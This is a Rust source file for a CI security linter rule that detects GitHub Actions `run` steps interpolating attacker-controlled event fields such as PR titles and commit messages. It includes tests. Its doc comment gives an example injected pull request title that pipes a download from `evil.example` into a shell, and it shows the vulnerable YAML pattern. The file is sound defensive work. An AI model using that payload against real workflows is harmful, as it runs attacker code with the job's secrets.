//! DPY-GHA-003: GitHub Actions step interpolates untrusted input into a shell script.
//!
//! # What it checks
//! No step's `run` script expands, with `${{ … }}`, one of the event fields an outsider
//! controls: issue, pull request, comment and review titles and bodies, commit messages
//! and author names and emails, wiki page names, and the head branch's name, label and
//! default branch (`github.head_ref` too).
//!
//! # Why it matters
//! The runner pastes the expression's text into the script before the shell reads it, so
//! a pull request titled `a"; curl evil.example | sh; echo "` runs that command with the
//! job's token and secrets.
//!
//! # Example
//!
//! Bad:
//!
//! ```yaml
//! steps:
//!   - run: echo "${{ github.event.pull_request.title }}"
//! ```
//!
//! Good:
//!
//! ```yaml
//! steps:
//!   - env:
//!       TITLE: ${{ github.event.pull_request.title }}
//!     run: echo "$TITLE"
//! ```
//!
//! # Remediation
//! Hand the value to the script through an environment variable (`env:`) and quote it in
//! the script, or pass it to an action as an input.
//!
//! # References
//! - <https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections>
//! - <https://securitylab.github.com/resources/github-actions-untrusted-input/>

use crate::check::{Cx, Verdict};
use crate::model::{Resource, Value};
use regex::Regex;
use std::sync::OnceLock;

check!(ShellInjection {
    code: "DPY-GHA-003",
    checkov: ["CKV_GHA_2"],
    title: "GitHub Actions step interpolates untrusted input into a shell script",
    severity: High,
    reason: "KICS \"Run Block Injection\" (cicd/github) is High; no trivy-checks equivalent (its GitHub checks read the Terraform github provider)",
    targets: [(GithubActions, "jobs"), (GithubActions, "steps")],
    description: "Reads the `run` script of every step (and of a job, which has none and so passes): a `${{ … }}` expression, with spaces only around it, naming an outsider-controlled event field fails. A `run` that is not text is not judged.",
    remediation: "Hand the value to the script through an environment variable (`env:`) and quote it in the script, or pass it to an action as an input.",
    references: [
        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
        "https://securitylab.github.com/resources/github-actions-untrusted-input/",
    ],
    differences: [
        "Checkov's patterns let each `.` of a field name match any character; Deputy's match the dots literally, so a misspelt field such as `github.event.issue_title` fails in Checkov only.",
    ],
});

/// The event fields an outsider writes (GitHub's list of untrusted inputs). `*` stands for
/// any array index or key.
const UNTRUSTED: [&str; 17] = [
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.pages.*.page_name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.head_ref",
];

fn untrusted() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        let fields: Vec<String> = UNTRUSTED
            .iter()
            .map(|f| regex::escape(f).replace(r"\.\*", ".*"))
            .collect();
        Regex::new(&format!(r"\$\{{\{{ *(?:{}) *\}}\}}", fields.join("|")))
            .unwrap_or_else(|_| unreachable!("the pattern is built from literals"))
    })
}

fn evaluate(r: &Resource, _cx: &Cx<'_>) -> Verdict {
    match r.config.get("run") {
        None => Verdict::Pass,
        Some(Value::String(script)) => match untrusted().find(script) {
            Some(m) => Verdict::fail(format!(
                "the script expands `{}`, which an outsider controls",
                m.as_str()
            )),
            None => Verdict::Pass,
        },
        Some(_) => Verdict::Unknown,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checks::gha_testing::verdicts;

    #[test]
    fn verdicts_on_jobs_and_steps() {
        let got = verdicts(
            evaluate,
            "jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.pull_request.title }}\"\n      - run: echo \"${{github.event.commits[0].author.name}}\"\n      - run: echo \"$TITLE\"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n      - run: echo \"${{ github.event.issue_title }}\"\n      - uses: actions/checkout@v4\n      - run: 3\n",
        );
        assert_eq!(
            got,
            [
                ("jobs(a)".to_owned(), Some(true)),
                ("jobs(a).steps[1]".to_owned(), Some(false)),
                ("jobs(a).steps[2]".to_owned(), Some(false)),
                ("jobs(a).steps[3]".to_owned(), Some(true)),
                ("jobs(a).steps[4]".to_owned(), Some(true)),
                ("jobs(a).steps[5]".to_owned(), Some(true)),
                ("jobs(a).steps[6]".to_owned(), None),
            ]
        );
    }
}
